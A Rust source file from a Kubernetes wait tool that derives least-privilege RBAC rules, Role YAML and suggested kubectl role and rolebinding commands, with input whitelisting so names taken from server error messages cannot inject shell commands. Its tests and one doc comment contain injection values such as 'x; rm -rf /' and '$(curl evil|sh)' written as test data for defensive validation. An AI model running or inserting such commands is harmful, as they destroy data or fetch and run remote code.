//! The least-privilege RBAC each wait needs: one source for `--dry-run`, `--dry-run=rbac`
//! (a Role as YAML) and the forbidden hint's `kubectl create role` commands, so they cannot
//! drift apart (the Helm chart is checked against `--dry-run=rbac` in CI).

use crate::plan::{JobSelect, Target};

/// One RBAC rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    /// API group ("" = core).
    pub group: &'static str,
    /// Resource plural.
    pub resource: &'static str,
    /// `resourceNames`; empty = any name (only where a selector demands it).
    pub names: Vec<String>,
    /// Verbs.
    pub verbs: &'static [&'static str],
    /// Why this rule exists; optional rules only improve the report and may be left out.
    pub why: &'static str,
    /// Whether the wait works without it (it only adds detail to the report).
    pub optional: bool,
}

/// The rules a target needs. HTTP and TCP waits need none.
pub fn rules(target: &Target) -> Vec<Rule> {
    let rule = |group, resource, names: Vec<String>, verbs, why, optional| Rule {
        group,
        resource,
        names,
        verbs,
        why,
        optional,
    };
    match target {
        Target::Secret { name, .. } => vec![rule(
            "",
            "secrets",
            vec![name.clone()],
            &["get", "watch"],
            "read the Secret; watch it to react at once",
            false,
        )],
        Target::Certificate {
            name,
            secret_name,
            check_secret,
        } => {
            let mut r = vec![rule(
                "cert-manager.io",
                "certificates",
                vec![name.clone()],
                &["get", "watch"],
                "read the Certificate; watch it to react at once",
                false,
            )];
            if *check_secret && let Some(s) = secret_name {
                r.push(rule(
                    "",
                    "secrets",
                    vec![s.clone()],
                    &["get"],
                    "check that the issued Secret exists with tls.crt and tls.key",
                    false,
                ));
            }
            r.push(rule(
                "cert-manager.io",
                "certificaterequests",
                vec![],
                &["list"],
                "optional: show the latest CertificateRequest in the timeout report",
                true,
            ));
            r
        }
        Target::Job { select, .. } => {
            let job = match select {
                JobSelect::Name(n) => rule(
                    "batch",
                    "jobs",
                    vec![n.clone()],
                    &["get", "watch"],
                    "read the Job; watch it to react at once",
                    false,
                ),
                JobSelect::Selector(_) => rule(
                    "batch",
                    "jobs",
                    vec![],
                    &["list", "watch"],
                    "find the Jobs by label; watch them to react at once",
                    false,
                ),
            };
            vec![
                job,
                rule(
                    "",
                    "pods",
                    vec![],
                    &["list"],
                    "optional: say why the Job's pods do not run (ImagePullBackOff, CrashLoopBackOff, Unschedulable) and the failed pod's exit code",
                    true,
                ),
                rule(
                    "",
                    "events",
                    vec![],
                    &["list"],
                    "optional: name why the Job creates no pod (FailedCreate: quota, PodSecurity admission)",
                    true,
                ),
            ]
        }
        Target::Http(_) | Target::Tcp(_) | Target::Redis(_) => Vec::new(),
    }
}

/// A Role granting `rules`, as YAML.
pub fn role_yaml(
    role: &str,
    namespace: Option<&str>,
    rules: &[Rule],
    missing_secret_note: bool,
) -> String {
    let mut y = String::from("apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n");
    y.push_str(&format!("  name: {role}\n"));
    if let Some(ns) = namespace {
        y.push_str(&format!("  namespace: {ns}\n"));
    }
    if rules.is_empty() {
        y.push_str("rules: []\n");
        return y;
    }
    y.push_str("rules:\n");
    if missing_secret_note {
        y.push_str(
            "# secrets: kwait also needs get on the Secret named by the Certificate's spec.secretName;\n\
             # pass --secret-name to have it listed here\n",
        );
    }
    for r in rules {
        y.push_str(&format!("# {}\n", r.why));
        y.push_str(&format!("- apiGroups: [{}]\n", quote(r.group)));
        y.push_str(&format!("  resources: [{}]\n", quote(r.resource)));
        if !r.names.is_empty() {
            let names: Vec<String> = r.names.iter().map(|n| quote(n)).collect();
            y.push_str(&format!("  resourceNames: [{}]\n", names.join(", ")));
        }
        let verbs: Vec<String> = r.verbs.iter().map(|v| quote(v)).collect();
        y.push_str(&format!("  verbs: [{}]\n", verbs.join(", ")));
    }
    y
}

fn quote(s: &str) -> String {
    format!("\"{s}\"")
}

/// The name kwait suggests for its Role: `kwait-<name>` (or `kwait-<resource>` for selectors),
/// cut to a valid length.
pub fn role_name(target: &Target) -> String {
    let base = match target {
        Target::Secret { name, .. } | Target::Certificate { name, .. } => name.clone(),
        Target::Job {
            select: JobSelect::Name(n),
            ..
        } => n.clone(),
        Target::Job { .. } => "jobs".into(),
        Target::Http(_) | Target::Tcp(_) | Target::Redis(_) => "none".into(),
    };
    let mut n = format!("kwait-{base}");
    n.truncate(63);
    n.trim_end_matches(['-', '.']).to_string()
}

/// A Kubernetes object name (DNS-1123 subdomain characters), safe to paste into a shell.
fn is_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 253
        && s.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.')
}

/// A subject (user or `system:serviceaccount:NS:SA`) as the API server names it, restricted to
/// characters safe to paste into a shell.
fn is_subject(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 253
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b':' | b'.' | b'_' | b'@' | b'-'))
}

/// `kubectl create role` and `rolebinding` commands granting `rule` to `subject` (as the API
/// server names it: `system:serviceaccount:NS:SA`, or a user).
///
/// The subject comes from the server's 403 message and the names may too: a value that is not
/// a plain Kubernetes name or subject (`x; curl evil | sh`) is never put into a command. An
/// unusable subject gives the placeholder form; an unusable name gives no commands at all.
pub fn fix_commands(
    role: &str,
    namespace: &str,
    subject: Option<&str>,
    rule: &Rule,
) -> Vec<String> {
    let names_ok = is_name(role)
        && is_name(namespace)
        && is_name(rule.resource)
        && (rule.group.is_empty() || is_name(rule.group))
        && rule.verbs.iter().all(|v| is_name(v))
        && rule.names.iter().all(|n| is_name(n));
    if !names_ok {
        return Vec::new();
    }
    let resource = if rule.group.is_empty() {
        rule.resource.to_string()
    } else {
        format!("{}.{}", rule.resource, rule.group)
    };
    let mut create = format!(
        "kubectl create role {role} --verb={} --resource={resource}",
        rule.verbs.join(",")
    );
    for n in &rule.names {
        create.push_str(&format!(" --resource-name={n}"));
    }
    create.push_str(&format!(" -n {namespace}"));
    let subject = subject.filter(|s| is_subject(s));
    let who = match subject.and_then(|s| s.strip_prefix("system:serviceaccount:")) {
        Some(sa) => format!("--serviceaccount={sa}"),
        None => match subject {
            Some(user) => format!("--user={user}"),
            None => format!("--serviceaccount={namespace}:<service-account>"),
        },
    };
    vec![
        create,
        format!("kubectl create rolebinding {role} --role={role} {who} -n {namespace}"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn secret() -> Target {
        Target::Secret {
            name: "litellm-api-user".into(),
            keys: vec![],
        }
    }

    #[test]
    fn secret_wait_needs_get_and_watch_on_that_name_only() {
        let r = rules(&secret());
        assert_eq!(r.len(), 1);
        assert_eq!(
            (r[0].group, r[0].resource, r[0].verbs),
            ("", "secrets", &["get", "watch"][..])
        );
        assert_eq!(r[0].names, vec!["litellm-api-user".to_string()]);
    }

    #[test]
    fn fix_commands_name_the_service_account_and_the_object() {
        let r = rules(&secret());
        let cmds = fix_commands(
            "kwait-litellm-api-user",
            "crs",
            Some("system:serviceaccount:crs:default"),
            &r[0],
        );
        assert_eq!(
            cmds,
            vec![
                "kubectl create role kwait-litellm-api-user --verb=get,watch --resource=secrets --resource-name=litellm-api-user -n crs",
                "kubectl create rolebinding kwait-litellm-api-user --role=kwait-litellm-api-user --serviceaccount=crs:default -n crs",
            ]
        );
    }

    #[test]
    fn role_yaml_lists_each_rule() {
        let y = role_yaml("kwait-x", Some("crs"), &rules(&secret()), false);
        assert!(y.contains("  namespace: crs\n"));
        assert!(y.contains(
            "- apiGroups: [\"\"]\n  resources: [\"secrets\"]\n  resourceNames: [\"litellm-api-user\"]\n  verbs: [\"get\", \"watch\"]\n"
        ));
    }

    #[test]
    fn a_hostile_subject_or_name_is_never_put_into_a_suggested_command() {
        let r = rules(&secret());
        let cmds = fix_commands("kwait-litellm-api-user", "crs", Some("x; rm -rf /"), &r[0]);
        assert_eq!(cmds.len(), 2);
        assert!(
            cmds.iter()
                .all(|c| !c.contains(';') && !c.contains("rm -rf")),
            "{cmds:?}"
        );
        assert!(
            cmds[1].contains("--serviceaccount=crs:<service-account>"),
            "{cmds:?}"
        );
        let cmds = fix_commands(
            "kwait-x",
            "crs",
            Some("system:serviceaccount:crs:$(curl evil|sh)"),
            &r[0],
        );
        assert!(cmds.iter().all(|c| !c.contains("curl")), "{cmds:?}");
        // A name that is not a Kubernetes name: no command at all.
        assert!(fix_commands("kwait-x", "crs; rm -rf /", None, &r[0]).is_empty());
        assert!(fix_commands("kwait-x`id`", "crs", None, &r[0]).is_empty());
        // Ordinary users and service accounts still get their commands.
        let cmds = fix_commands("kwait-x", "crs", Some("alice@example.com"), &r[0]);
        assert!(cmds[1].contains("--user=alice@example.com"), "{cmds:?}");
    }
}
